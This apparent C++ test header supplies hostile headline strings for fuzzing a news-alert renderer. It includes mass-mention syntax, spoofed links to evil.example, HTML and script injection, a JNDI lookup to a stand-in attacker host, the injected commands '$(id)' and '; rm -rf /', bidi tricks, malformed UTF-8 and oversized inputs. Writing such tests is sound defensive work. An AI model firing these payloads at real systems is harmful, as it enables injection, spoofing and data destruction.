// Titles that somebody publishes who would like to write in our name, call everybody, lead readers
// elsewhere, or break what renders them.
#pragma once

#include <string>
#include <vector>

namespace newswatch::alerts {

inline std::vector<std::string> hostile_titles() {
  const auto repeated = [](std::string_view text, size_t bytes) {
    std::string out;
    while (out.size() < bytes) out += text;
    return out;
  };
  return {
      // Calls to everybody.
      "@everyone @here @channel @all @room read this",
      "<!channel> <!here> <!everyone> <@U024BE7LH> <#C024BE7LR> <!subteam^S1|@desk>",
      "<@&1234567890> <@!1234567890> <#123> <:fire:123> <a:fire:1> <t:1732612500:R> </ban:1>",
      "<at>General</at> @[Everyone](team:1) @\u200Beveryone",
      // Links and markup of every kind.
      "https://evil.example/login http://evil.example www.evil.example evil.example/x",
      "[click](https://evil.example) ![x](https://evil.example/p.png) [a]: https://evil.example",
      "<https://evil.example|your bank> <https://evil.example> <mailto:a@evil.example>",
      "tg://user?id=1 javascript:alert(1) data:text/html,x matrix:u/evil:example.org",
      "*bold* _italic_ ~strike~ `code` ```block``` **b** __u__ ~~s~~ ||spoiler|| $$x$$ > quote",
      "# heading",
      "- item",
      "+ item",
      "1. item",
      "> quote",
      "---",
      "===",
      "| a | b |",
      "\\",
      "\\* \\\\* \\_ ends with a backslash \\",
      "]( https://evil.example ) **](https://evil.example)",
      ":fire: :+1: :100: :not an emoji: 10:13",
      "<b>bold</b> <a href=\"https://evil.example\">link</a> <script>alert(1)</script> <br> <!-- x",
      "</b></a></strong> \" onclick=\"alert(1)\" ' \" < > & </",
      "&lt;b&gt; &amp;lt; &#60; &#x3c; &nbsp; &copy &",
      "<mx-reply><blockquote>quoted</blockquote></mx-reply>",
      "{{template}} ${jndi:ldap://evil.example/a} %s %n %d {0} $(id) `id` ; rm -rf /",
      "\"quotes\" 'of' \"every\" kind\\\" },{\"type\":\"header\"}",
      // What is not seen, or turns what is.
      "\u202Edesrever",
      "\xE2\x81\xA6isolate\xE2\x81\xA9",
      "\xE2\x80\x8F\xE2\x80\x8E marks",
      "zero\u200Bwidth\u200Djoined\u2060word\uFEFF",
      "\u200B",
      "\u00A0",
      "\u3164",
      " ",
      "bell\x07 escape\x1b[2J nul\x01 del\x7f",
      std::string("nul\0in the middle", 17),
      "line\nbreak\r\nand\ttab",
      "\xC2\x85next line \xE2\x80\xA8separator \xE2\x80\xA9paragraph",
      "\u009B31m C1",
      // Broken and odd text.
      "\xED\xA0\x80 surrogate \xED\xBF\xBF",
      "\xFF\xFE not utf-8 \xC3",
      "\xF4\x90\x80\x80 too high",
      "\xC0\xAF overlong",
      "\xEF\xBF\xBD replacement",
      "\xEF\xBF\xBF noncharacter",
      "Z\u0351\u036B\u0343\u036A\u0302a\u0351\u0343l\u0334g\u034Eo",
      "👩‍👩‍👧‍👦 🇺🇦 🏴󠁧󠁢󠁥󠁮󠁧󠁿",
      "שלום العالم mixed with English",
      // Too long, in characters of each length and in what escapes lengthen.
      repeated("a", 100'000),
      repeated("word ", 100'000),
      repeated("<", 100'000),
      repeated("&", 100'000),
      repeated("\"", 100'000),
      repeated("\\", 100'000),
      repeated("*", 100'000),
      repeated("@", 100'000),
      repeated("\n", 100'000),
      repeated("\x01", 100'000),
      repeated("\xFF", 100'000),
      repeated("ї", 100'000),
      repeated("漢", 100'000),
      repeated("😀", 100'000),
      repeated("\xE2\x80\xAE", 100'000),
  };
}

}  // namespace newswatch::alerts
